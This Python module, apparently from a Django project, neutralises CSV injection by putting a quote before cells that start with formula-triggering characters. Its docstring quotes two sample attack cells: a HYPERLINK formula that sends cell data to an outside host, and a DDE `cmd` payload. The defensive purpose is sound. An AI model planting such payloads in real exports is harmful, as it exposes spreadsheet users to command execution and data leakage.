"""Files meant for spreadsheets: the one definition of a text that a spreadsheet would run as a formula.

Excel, LibreOffice and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@` as a formula (`@` is
Excel's implicit intersection), and some of them skip a leading tab or carriage return before deciding: a cell
`=HYPERLINK("http://…?"&A1)` or `+cmd|' /C calc'!A0` received in an open data file would run on the reader's
machine (CSV injection, OWASP). Every export meant for a spreadsheet uses this definition:

- CSV files (the datastore's exports, built in DuckDB's SELECT from `FORMULA_PREFIXES`; the open data files that the
  modules generate and the participation survey export, through `safe_cell` and `csv_bytes`) put a single quote
  before such a text, which spreadsheets show as text;
- XLSX files (the datastore's exports) write them as text cells, never as formulas (nothing to add: the cell type
  says it is text), so they are shown exactly as typed.

Numbers are never text here: a negative amount (-12.5) in a numeric column is written as a number, unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal

from django.utils import timezone

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: What goes before such a text so that a spreadsheet shows it as text.
NEUTRALISING_PREFIX = "'"


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def neutralise(text: str) -> str:
    """The text as a spreadsheet must receive it in a CSV cell: with a leading quote when it could run as a formula."""
    return NEUTRALISING_PREFIX + text if is_formula_like(text) else text


def safe_cell(value):
    """One value as a CSV cell: empty for None, "oui"/"non" for a boolean, a number unchanged (a negative one too), a
    date-time in local time (ISO 8601), any other value as text, neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).isoformat()
    return neutralise(str(value))


def csv_bytes(header: list[str], rows: Iterable[Iterable]) -> bytes:
    """A CSV file (UTF-8, comma separator, Unix line ends): the header, then the rows, each cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8")
